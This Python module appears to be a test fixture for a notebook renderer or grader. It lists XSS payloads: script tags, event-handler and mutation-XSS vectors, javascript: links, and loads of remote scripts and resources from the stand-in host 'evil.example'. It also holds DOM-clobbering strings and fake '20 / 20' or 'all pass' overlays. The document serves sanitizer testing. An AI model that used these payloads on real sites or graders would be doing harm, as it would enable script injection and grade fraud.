"""What a student may put in a notebook to make a page run code, fetch something or be covered.

Everything that runs sets ``window.pwned`` or the document's title; everything fetched is at EVIL.
"""

from __future__ import annotations

from typing import Any

EVIL = "http://evil.example"
RUN = "window.pwned=1;document.title='pwned'"

FRAGMENTS = {
    "script": f"<script>{RUN}</script>",
    "script_src": f"<script src='{EVIL}/x.js'></script>",
    "module": f"<script type=module>import '{EVIL}/x.mjs'</script>",
    "handler": f"<img src=x onerror=\"{RUN}\">",
    "handler_in_details": f"<details open ontoggle=\"{RUN}\"><summary>s</summary></details>",
    "handler_on_focus": f"<input autofocus onfocus=\"{RUN}\">",
    "svg": f"<svg onload=\"{RUN}\"><script>{RUN}</script></svg>",
    "svg_link": f"<svg><a xlink:href=\"javascript:{RUN}\"><text y=20>go</text></a></svg>",
    "svg_animates": f"<svg><animate onbegin=\"{RUN}\" attributeName=x dur=1s></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror=\"{RUN}\">",
    "mutation": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    "comment": f"<!--><img src=x onerror=\"{RUN}\">-->",
    "frame": f"<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe><iframe src={EVIL}>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    "link": f"<link rel=stylesheet href={EVIL}/s.css><link rel=prefetch href={EVIL}/p>",
    "style": f"<style>@import '{EVIL}/i.css'; body{{display:none}}</style>",
    "style_covers": "<div style='position:fixed;inset:0;z-index:9999;background:red'>20 / 20</div>",
    "style_fetches": f"<p style=\"background:url({EVIL}/b.png)\">b</p>",
    "image": f"<img src={EVIL}/i.png><img srcset='{EVIL}/s 2x'><picture><source srcset={EVIL}/t>",
    "media": f"<video src={EVIL}/v autoplay></video><audio src={EVIL}/a autoplay></audio>",
    "base": f"<base href={EVIL}/>",
    "refresh": f"<meta http-equiv=refresh content='0;url={EVIL}/r'>",
    "policy": "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    "form": f"<form action={EVIL}/f><button autofocus>Save</button></form>",
    "javascript_link": f"<a href=\"javascript:{RUN}\" class=bait>grade me</a>",
    "spaced_link": f"<a href=\" jav&#x09;ascript:{RUN}\" class=bait>grade me</a>",
    "data_link": f"<a href=\"data:text/html,<script>{RUN}</script>\" class=bait>grade me</a>",
    "relative_link": "<a href='evil.html' class=bait>my plot</a>",
    "clobbers": "<img name=formgrader><a id=MathJax></a><form id=submission_id></form>",
    "bootstrap": "<div class='modal navbar-fixed-top' data-toggle=tooltip data-link=x>cover</div>",
    "our_own": "<div class='shardlab-check' data-passed=true><div class='line ok'>all pass</div>",
    "closes": "</pre></div></div></section></body></html><h1>20 / 20</h1>",
    "widget": "<script type='application/vnd.jupyter.widget-view+json'>{}</script>",
}  # fmt: skip

MARKDOWN = {
    "link": f"[grade me](javascript:{RUN.replace(';', '%3B')})",
    "reference": f"[grade me][1]\n\n[1]: javascript:{RUN.replace(';', '%3B')}",
    "autolink": f"<javascript:{RUN}>",
    "image": f"![i]({EVIL}/m.png)",
    "math": f'$<img src=x onerror="{RUN}">$ and $$</pre><script>{RUN}</script>$$',
    "environment": f"\\begin{{x}}<script>{RUN}</script>\\end{{x}}",
    "code": f"```html\n<script>{RUN}</script>\n```",
    "mermaid": f"```mermaid\n</pre><script>{RUN}</script>\n```",
}


def outputs() -> dict[str, list[Any]]:
    """Outputs that a hostile kernel may send: {name: outputs of a cell}."""
    tag = f'<script>{RUN}</script><img src=x onerror="{RUN}">'
    svg = (
        f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{RUN}\"><script>{RUN}</script>"
        f"<image href='{EVIL}/svg.png'/><text>hi</text></svg>"
    )

    def display(kind: str = "display_data", **forms: Any) -> dict[str, Any]:
        data = {name.replace("__", "+").replace("_", "/", 1): text for name, text in forms.items()}
        return {"output_type": kind, "metadata": {}, "data": data}

    isolated = {**display(text_html=tag), "metadata": {"text/html": {"isolated": True}}}
    sized = {
        **display(image_png='iVBORw0KGgo="><script>' + RUN + "</script>"),
        "metadata": {"image/png": {"width": f'1" onerror="{RUN}', "alt": tag}},
    }
    javascript = {**display(text_plain="x")}
    javascript["data"]["application/javascript"] = RUN
    view = {**display(text_plain="x")}
    view["data"]["application/vnd.jupyter.widget-view+json"] = {"model_id": tag}
    drawing = display()
    drawing["data"]["image/svg+xml"] = svg
    return {
        "html": [display(text_html="".join(FRAGMENTS.values()))],
        "isolated": [isolated],
        "markdown": [display(text_markdown="\n\n".join([*MARKDOWN.values(), tag]))],
        "latex": [display(text_latex=f"$${tag}$$")],
        "javascript": [javascript],
        "widget": [view],
        "svg": [drawing],
        "png": [sized],
        "plain": [display(text_plain=tag + f"\x1b[31m{tag}\x1b[0m")],
        "stream": [{"output_type": "stream", "name": "stdout", "text": tag}],
        "error": [
            {"output_type": "error", "ename": tag, "evalue": tag, "traceback": [tag, "\x1b[1m"]}
        ],
    }  # fmt: skip
